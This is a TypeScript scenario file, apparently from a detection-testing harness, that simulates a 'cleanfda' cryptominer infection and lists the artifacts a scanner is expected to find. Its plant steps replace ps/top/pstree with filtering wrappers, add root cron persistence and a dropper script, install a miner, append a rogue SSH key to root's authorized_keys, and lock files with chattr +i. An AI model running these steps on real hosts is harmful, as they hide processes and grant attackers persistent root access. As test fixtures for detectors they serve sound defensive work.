import type { Scenario } from './types.js';
import { appendLine, cronLine, dropper, installBinary, processArtifact, ROOT_CRONTAB, stratum, writeFile } from './kit.js';
import { LEGIT_CRON } from './clean.js';

const MINER = '/usr/local/lib/.httpd2/httpd2';
const CRON_D = '/etc/cron.d/httpd2';
const UPAT = '/etc/upat.sh';
const REPLACED = ['/usr/bin/ps', '/usr/bin/top', '/usr/bin/pstree'];

/** Cleanfda-style: ps/top/pstree replaced by filtering scripts, cron.d/httpd2, upat.sh, chattr +i, rogue key. */
export const cleanfda: Scenario = {
  name: 'cleanfda',
  plan: (ctx) => {
    const argv = [MINER, '-o', stratum(ctx.pool, 14444), '-u', 'cleanfda'];
    const upat = dropper({ http: ctx.http, family: 'cleanfda', path: MINER, argv, comm: 'httpd2' });
    const cronD = `*/1 * * * * root ${UPAT} >/dev/null 2>&1`;
    const spool = `*/30 * * * * sh ${UPAT} >/dev/null 2>&1`;
    const key = `${ctx.keys.cleanfda!.publicKey} root@kali`;
    const fake = (bin: string) => `#!/bin/bash\n${bin}.original "$@" | grep -v -E 'httpd2|upat|\\.httpd2'\n`;
    return {
      family: 'cleanfda',
      plant: [
        ...REPLACED.flatMap((bin) => [`mv ${bin} ${bin}.original`, writeFile(bin, fake(bin), '755')]),
        ...LEGIT_CRON.map((l) => cronLine(l)),
        cronLine(spool),
        writeFile(CRON_D, cronD + '\n'),
        writeFile(UPAT, upat, '755'),
        installBinary('cleanfda', MINER),
        appendLine('/root/.ssh/authorized_keys', key, '600'),
        `chattr +i ${CRON_D} ${UPAT} ${ROOT_CRONTAB}`,
      ],
      start: [`sh ${UPAT} </dev/null >/dev/null 2>&1 || true`],
      artifacts: [
        processArtifact(argv, 'cleanfda', ctx.sha256('cleanfda'), 'miner', `${ctx.pool}:14444`),
        { kind: 'file', path: MINER, sha256: ctx.sha256('cleanfda') },
        { kind: 'connection', remote: `${ctx.pool}:14444`, comm: 'httpd2' },
        ...REPLACED.map((bin) => ({ kind: 'renamed-binary' as const, path: bin, original: `${bin}.original` })),
        { kind: 'cron-line', path: CRON_D, line: cronD },
        { kind: 'cron-line', path: ROOT_CRONTAB, line: spool },
        { kind: 'cron-line', path: ROOT_CRONTAB, line: LEGIT_CRON[1]!, legitimate: true },
        { kind: 'file', path: UPAT },
        ...[CRON_D, UPAT, ROOT_CRONTAB].map((path) => ({ kind: 'immutable' as const, path, attrs: 'i' })),
        { kind: 'key', path: '/root/.ssh/authorized_keys', line: key, comment: 'root@kali', fingerprint: ctx.keys.cleanfda!.fingerprint },
      ],
      expectFindings: true,
      respawnSeconds: 60,
      binaries: ['cleanfda'],
    };
  },
};
